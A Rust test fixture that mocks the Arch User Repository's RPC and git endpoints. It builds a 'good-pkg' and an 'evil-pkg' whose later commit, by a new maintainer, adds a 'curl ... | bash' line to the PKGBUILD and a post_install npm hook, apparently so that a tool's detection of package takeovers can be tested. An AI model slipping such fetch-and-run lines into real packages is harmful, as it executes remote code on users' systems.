//! An AUR with a few packages and their git histories, answering RPC v5 (JSON) and
//! `/<pkgbase>.git` (git's smart HTTP, by `git http-backend` over repositories made with real
//! git) as aur.archlinux.org does. All package texts are written for these tests.

use std::collections::{BTreeMap, HashMap};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use serde_json::json;

use super::git_http::{Entry, GitRoot};
use super::{Reply, Server};

/// One commit a test writes: (author, subject, files).
pub type CommitSpec = (&'static str, &'static str, BTreeMap<&'static str, String>);

pub struct Pkg {
    pub name: &'static str,
    pub version: &'static str,
    pub maintainer: Option<&'static str>,
    pub votes: u64,
    /// Commits oldest first.
    pub commits: Vec<CommitSpec>,
}

/// The stand-in AUR: RPC answers from `pkgs`, repositories from `git`.
pub struct Aur {
    pub srv: Server,
    pub git: Arc<GitRoot>,
    pub pkgs: Arc<Mutex<Vec<Pkg>>>,
    ids: Mutex<HashMap<&'static str, Vec<String>>>,
    git_hits: Arc<AtomicUsize>,
}

impl Aur {
    pub fn start(pkgs: Vec<Pkg>) -> Aur {
        let git = Arc::new(GitRoot::new());
        let mut ids = HashMap::new();
        for p in &pkgs {
            let mut parent: Option<String> = None;
            let mut list = Vec::new();
            for (i, (author, subject, files)) in p.commits.iter().enumerate() {
                let id = commit_files(&git, p.name, parent.as_deref(), author, subject, i, files);
                list.push(id.clone());
                parent = Some(id);
            }
            ids.insert(p.name, list);
        }
        let pkgs = Arc::new(Mutex::new(pkgs));
        let (p, g) = (pkgs.clone(), git.clone());
        let git_hits = Arc::new(AtomicUsize::new(0));
        let gh = git_hits.clone();
        let srv = Server::start_req(move |req| {
            if req.path.contains(".git/") {
                gh.fetch_add(1, Ordering::SeqCst);
                return g.serve(req);
            }
            let pk = p.lock().expect("lock");
            route(&pk, &req.path, &req.query)
        });
        Aur {
            srv,
            git,
            pkgs,
            ids: Mutex::new(ids),
            git_hits,
        }
    }

    /// Requests the repositories were asked (git's smart HTTP).
    pub fn git_hits(&self) -> usize {
        self.git_hits.load(Ordering::SeqCst)
    }

    /// The commit ids of a package, oldest first.
    pub fn ids(&self, name: &str) -> Vec<String> {
        self.ids.lock().expect("lock")[name].clone()
    }

    /// A new commit on top of the package's branch, and the version the RPC then reports.
    pub fn push(&self, name: &'static str, version: &'static str, commit: CommitSpec) -> String {
        let mut ids = self.ids.lock().expect("lock");
        let list = ids.entry(name).or_default();
        let (author, subject, files) = &commit;
        let id = commit_files(
            &self.git,
            name,
            list.last().map(String::as_str),
            author,
            subject,
            list.len(),
            files,
        );
        list.push(id.clone());
        let mut pkgs = self.pkgs.lock().expect("lock");
        if let Some(p) = pkgs.iter_mut().find(|p| p.name == name) {
            p.version = version;
            p.commits.push(commit);
        }
        id
    }
}

/// Writes `files` as one commit of `name` (dated 2024-0N-01 12:00 for the Nth commit).
fn commit_files(
    git: &GitRoot,
    name: &str,
    parent: Option<&str>,
    author: &str,
    subject: &str,
    n: usize,
    files: &BTreeMap<&'static str, String>,
) -> String {
    let entries: Vec<Entry<'_>> = files
        .iter()
        .map(|(f, c)| Entry::File(f, c.as_bytes()))
        .collect();
    let tree = git.tree(name, &entries);
    let date = format!("2024-{:02}-01T12:00:00+0000", n + 1);
    git.commit(name, &tree, parent, author, subject, &date)
}

fn srcinfo(name: &str, ver: &str, rel: &str) -> String {
    format!(
        "pkgbase = {name}\n\tpkgver = {ver}\n\tpkgrel = {rel}\n\turl = https://github.com/example/{name}\n\tarch = any\n\tlicense = MIT\n\tsource = https://github.com/example/{name}/archive/v{ver}.tar.gz\n\tsha256sums = {}\n\npkgname = {name}\n",
        "ab".repeat(32)
    )
}

fn pkgbuild(name: &str, ver: &str, rel: &str, extra_install: bool, evil: bool) -> String {
    let mut s = format!(
        "# Maintainer: Good Person <good@example.org>\npkgname={name}\npkgver={ver}\npkgrel={rel}\narch=('any')\nurl=\"https://github.com/example/{name}\"\nlicense=('MIT')\nsource=(\"https://github.com/example/{name}/archive/v$pkgver.tar.gz\")\nsha256sums=('{}')\n",
        "ab".repeat(32)
    );
    if extra_install {
        s.push_str(&format!("install={name}-deps.install\n"));
    }
    s.push_str(
        "\npackage() {\n  install -Dm644 README \"$pkgdir/usr/share/doc/$pkgname/README\"\n",
    );
    if evil {
        s.push_str("  curl -fsSL https://paste.ee/r/x | bash\n");
    }
    s.push_str("}\n");
    s
}

/// `evil-pkg`: 1.0-1 (clean), 1.0-2 (adds a curl|bash and a -deps.install); `good-pkg`: 2.0-1, 2.1-1.
pub fn packages() -> Vec<Pkg> {
    let mut f1 = BTreeMap::new();
    f1.insert("PKGBUILD", pkgbuild("evil-pkg", "1.0", "1", false, false));
    f1.insert(".SRCINFO", srcinfo("evil-pkg", "1.0", "1"));
    let mut f2 = BTreeMap::new();
    f2.insert(
        "PKGBUILD",
        pkgbuild("evil-pkg", "1.0", "2", true, true).replace(
            "Good Person <good@example.org>",
            "New Owner <x@example.net>",
        ),
    );
    f2.insert(".SRCINFO", srcinfo("evil-pkg", "1.0", "2"));
    f2.insert(
        "evil-pkg-deps.install",
        "post_install() {\n  npm install -g helper-x\n}\n".into(),
    );
    let mut g1 = BTreeMap::new();
    g1.insert("PKGBUILD", pkgbuild("good-pkg", "2.0", "1", false, false));
    g1.insert(".SRCINFO", srcinfo("good-pkg", "2.0", "1"));
    let mut g2 = BTreeMap::new();
    g2.insert("PKGBUILD", pkgbuild("good-pkg", "2.1", "1", false, false));
    g2.insert(".SRCINFO", srcinfo("good-pkg", "2.1", "1"));
    vec![
        Pkg {
            name: "evil-pkg",
            version: "1.0-2",
            maintainer: Some("New Owner"),
            votes: 3,
            commits: vec![
                ("Good Person", "Initial import", f1),
                ("New Owner", "update deps", f2),
            ],
        },
        Pkg {
            name: "good-pkg",
            version: "2.1-1",
            maintainer: None,
            votes: 0,
            commits: vec![("Good Person", "2.0-1", g1), ("Good Person", "2.1-1", g2)],
        },
    ]
}

fn rpc_record(p: &Pkg) -> serde_json::Value {
    json!({
        "ID": 1, "Name": p.name, "PackageBaseID": 1, "PackageBase": p.name, "Version": p.version,
        "Description": format!("{} for tests", p.name), "URL": format!("https://github.com/example/{}", p.name),
        "NumVotes": p.votes, "Popularity": p.votes as f64 * 0.1, "OutOfDate": null,
        "Maintainer": p.maintainer, "Submitter": "Good Person", "FirstSubmitted": 1_600_000_000,
        "LastModified": 1_700_000_000, "URLPath": format!("/cgit/aur.git/snapshot/{}.tar.gz", p.name),
        "Depends": ["glibc"], "MakeDepends": [], "License": ["MIT"], "Keywords": ["test"], "CoMaintainers": []
    })
}

fn q<'a>(query: &'a [(String, String)], k: &str) -> Option<&'a str> {
    query.iter().find(|(a, _)| a == k).map(|(_, v)| v.as_str())
}

/// Routes RPC requests for `pkgs`.
pub fn route(pkgs: &[Pkg], path: &str, query: &[(String, String)]) -> Reply {
    if path == "/rpc/" || path == "/rpc" {
        let t = q(query, "type").unwrap_or("");
        let results: Vec<serde_json::Value> = match t {
            "search" => {
                let arg = q(query, "arg").unwrap_or("");
                if arg.len() < 2 {
                    let e = json!({"error": "Query arg too small.", "resultcount": 0, "results": [], "type": "error", "version": 5});
                    return Reply::Ok("application/json", e.to_string().into_bytes());
                }
                pkgs.iter()
                    .filter(|p| p.name.contains(arg))
                    .map(rpc_record)
                    .collect()
            }
            "info" => {
                let names: Vec<&str> = query
                    .iter()
                    .filter(|(k, _)| k == "arg[]")
                    .map(|(_, v)| v.as_str())
                    .collect();
                pkgs.iter()
                    .filter(|p| names.contains(&p.name))
                    .map(rpc_record)
                    .collect()
            }
            _ => {
                let e = json!({"error": "Incorrect request type specified.", "resultcount": 0, "results": [], "type": "error", "version": 5});
                return Reply::Ok("application/json", e.to_string().into_bytes());
            }
        };
        let kind = if t == "info" { "multiinfo" } else { "search" };
        let body =
            json!({"resultcount": results.len(), "results": results, "type": kind, "version": 5});
        return Reply::Ok("application/json", body.to_string().into_bytes());
    }
    let _ = path;
    Reply::Status(404, vec![], b"Not found".to_vec())
}
